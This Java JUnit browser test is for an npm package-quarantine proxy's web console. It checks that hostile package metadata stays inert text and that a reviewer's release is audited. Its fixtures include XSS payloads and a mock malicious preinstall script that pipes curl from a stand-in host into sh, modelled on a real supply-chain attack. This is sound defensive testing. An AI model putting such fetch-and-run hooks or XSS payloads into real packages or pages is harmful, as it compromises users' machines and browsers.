package dev.airlock.npm.e2e;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.airlock.config.AirlockConfig;
import dev.airlock.core.testing.ClientProcess;
import dev.airlock.core.testing.NettyLeaks;
import dev.airlock.core.testing.RunningAirlock;
import dev.airlock.npm.fixture.FixtureNpmRegistry;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.StreamSupport;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * The web console works for a security reviewer in a real browser and stays inert under hostile
 * package metadata. Headless system Chromium driven by playwright-core ({@code tools/browser})
 * runs {@code console/console-test.mjs} against a running Airlock whose fixture registry has a
 * version adding a {@code preinstall} script and one whose script and publisher carry markup.
 *
 * <p>Skipped when Chromium or {@code tools/browser/node_modules/playwright-core} is missing (CI
 * installs both: {@code .ci/run}). With {@code -Dairlock.screenshots=docs} the script also saves
 * {@code console-queue.png} and {@code console-evidence.png} in that folder of the repository.
 */
class ConsoleBrowserTest {

    private static final ObjectMapper M = new ObjectMapper();
    private static final String REASON = "reviewed in the console: the preinstall only builds a native addon";
    private static final String SCRIPT_TAG = "<script>alert(1)</script>";
    private static final String IMG_TAG = "<img src=x onerror=alert(document.domain)>";

    @AfterAll
    static void noBufferLeaked() throws InterruptedException {
        NettyLeaks.assertNone();
    }

    @TempDir
    Path tmp;

    @Test
    void aReviewerReleasesAHeldVersionFromTheConsoleAndHostileMetadataStaysText() throws Exception {
        Path root = repositoryRoot();
        assumeTrue(root != null, "no tools/browser/package.json above " + Path.of("").toAbsolutePath()
                + "; the console's browser test is skipped");
        Path nodeModules = root.resolve("tools/browser/node_modules");
        Path chromium = Path.of(System.getProperty("airlock.chromium", "/usr/bin/chromium"));
        assumeTrue(Files.isExecutable(chromium), "no Chromium at " + chromium
                + " (install the Debian package chromium, or set -Dairlock.chromium=PATH); the console's browser test is skipped");
        assumeTrue(Files.isDirectory(nodeModules.resolve("playwright-core")), "no " + nodeModules.resolve("playwright-core")
                + " (run: npm ci --prefix tools/browser); the console's browser test is skipped");
        assumeTrue(onPath("node"), "no node on PATH; the console's browser test is skipped");

        try (FixtureNpmRegistry registry = FixtureNpmRegistry.builder()
                // ua-parser-js (2021) shape: the new version adds a preinstall script.
                .pkg("ua-parse", p -> p.version("0.7.28", v -> v.npmUser("faisal", "f@example.test"))
                        .version("0.7.29", v -> v.npmUser("faisal", "f@example.test")
                                .script("preinstall", "start /B node preinstall.js & node preinstall.js")
                                // What the hook runs, with markup in it: the reviewer reads it, the browser never renders it.
                                .file("preinstall.js", "require('child_process').exec('curl -s https://x.invalid/jsextension | sh');\n// "
                                        + SCRIPT_TAG + IMG_TAG + "\n"))
                        .distTag("latest", "0.7.29"))
                // Markup wherever a package author writes text the console shows.
                .pkg("markup-lib", p -> p.description(SCRIPT_TAG + IMG_TAG)
                        .version("1.0.0", v -> v.npmUser("maintainer", "m@example.test"))
                        .version("1.0.1", v -> v.npmUser(IMG_TAG, "x@example.test")
                                .script("postinstall", "node -e \"" + SCRIPT_TAG + "\" " + IMG_TAG))
                        .distTag("latest", "1.0.1"))
                // Shai-Hulud shape, so the queue has more than the two under test.
                .pkg("tinycolor-x", p -> p.version("4.1.0", v -> v.npmUser("bgrins", "b@example.test"))
                        .version("4.1.1", v -> v.npmUser("npm-ci-bot", "bot@example.test").script("postinstall", "node bundle.js"))
                        .distTag("latest", "4.1.1"))
                .start();
             RunningAirlock airlock = airlock(registry)) {
            for (String pkg : List.of("ua-parse", "markup-lib", "tinycolor-x")) {
                assertEquals(200, airlock.get("/npm/" + pkg).statusCode(), pkg);
            }
            String token = airlock.adminToken();
            JsonNode queue = M.readTree(airlock.admin("GET", "quarantine", token, null).body());
            assertEquals(3, queue.get("total").asInt(), queue.toString());
            String held = idOf(queue, "ua-parse");
            String viewer = M.readTree(airlock.admin("POST", "tokens", token, "{\"name\":\"reader\",\"role\":\"viewer\"}").body())
                    .get("token").asText();

            Map<String, String> env = new HashMap<>();
            env.put("AIRLOCK_URL", airlock.uri("").toString());
            env.put("AIRLOCK_TOKEN", token);
            env.put("AIRLOCK_HELD_PACKAGE", "ua-parse");
            env.put("AIRLOCK_HELD_VERSION", "0.7.29");
            env.put("AIRLOCK_HOSTILE_PACKAGE", "markup-lib");
            env.put("AIRLOCK_REASON", REASON);
            env.put("AIRLOCK_VIEWER_TOKEN", viewer);
            env.put("AIRLOCK_NODE_MODULES", nodeModules.toString());
            env.put("NODE_PATH", nodeModules.toString());
            env.put("CHROMIUM", chromium.toString());
            // Chromium writes its profile and crash data under HOME.
            env.put("HOME", Files.createDirectories(tmp.resolve("home")).toString());
            String shots = System.getProperty("airlock.screenshots", "");
            if (!shots.isBlank()) {
                env.put("AIRLOCK_SCREENSHOTS", Files.createDirectories(root.resolve(shots)).toString());
            }
            Path script = Path.of(ConsoleBrowserTest.class.getResource("/console/console-test.mjs").toURI());
            ClientProcess.Result run = ClientProcess.run(tmp, env, 60, List.of("node", script.toString()));
            System.out.print(run.stdout());
            assertEquals(0, run.exitCode(), run.both());

            // What the browser did is what the server recorded.
            JsonNode detail = M.readTree(airlock.admin("GET", "quarantine/" + held, token, null).body());
            assertEquals("released", detail.get("status").asText(), detail.toString());
            assertEquals(REASON, detail.get("decision").get("reason").asText());
            assertTrue(StreamSupport.stream(M.readTree(airlock.admin("GET", "audit?action=release", token, null).body())
                    .get("items").spliterator(), false).anyMatch(e -> REASON.equals(e.path("reason").asText())), "no audited release");
        }
    }

    private RunningAirlock airlock(FixtureNpmRegistry registry) throws Exception {
        AirlockConfig c = RunningAirlock.config(tmp.resolve("data"), "npm", URI.create(registry.baseUrl()));
        return RunningAirlock.start(c, Clock.systemUTC());
    }

    private static String idOf(JsonNode queue, String pkg) {
        for (JsonNode item : queue.get("items")) {
            if (item.get("package").asText().equals(pkg)) {
                return item.get("id").asText();
            }
        }
        throw new AssertionError(pkg + " is not in the queue: " + queue);
    }

    /** The checkout's root: the first parent of the working directory with tools/browser, else null. */
    private static Path repositoryRoot() {
        for (Path p = Path.of("").toAbsolutePath(); p != null; p = p.getParent()) {
            if (Files.isRegularFile(p.resolve("tools/browser/package.json"))) {
                return p;
            }
        }
        return null;
    }

    private static boolean onPath(String program) {
        String path = System.getenv("PATH");
        return path != null && List.of(path.split(java.io.File.pathSeparator)).stream()
                .anyMatch(dir -> !dir.isEmpty() && Files.isExecutable(Path.of(dir, program)));
    }
}
